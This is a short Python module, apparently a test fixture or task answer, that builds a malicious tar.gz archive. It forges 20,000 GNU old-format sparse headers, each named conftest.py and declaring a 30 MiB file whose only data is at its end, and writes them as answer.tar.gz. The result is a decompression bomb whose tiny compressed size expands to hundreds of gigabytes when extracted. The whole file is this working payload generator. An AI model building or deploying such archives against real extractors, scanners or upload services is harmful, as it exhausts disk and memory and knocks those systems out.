"""Pack holes."""

from __future__ import annotations

import gzip
import tarfile
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path


def make(folder: Path) -> Path:
    """Build the archive from old GNU sparse headers whose only piece is at the end."""
    size = 30 * 2**20
    info = tarfile.TarInfo("conftest.py")
    info.type, info.size = tarfile.GNUTYPE_SPARSE, 0
    header = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    header[386:398] = b"%011o\0" % size
    header[398:410] = b"%011o\0" % 0
    header[483:495] = b"%011o\0" % size
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    path = folder / "answer.tar.gz"
    path.write_bytes(gzip.compress(bytes(header) * 20_000 + bytes(1024), compresslevel=1))
    return path
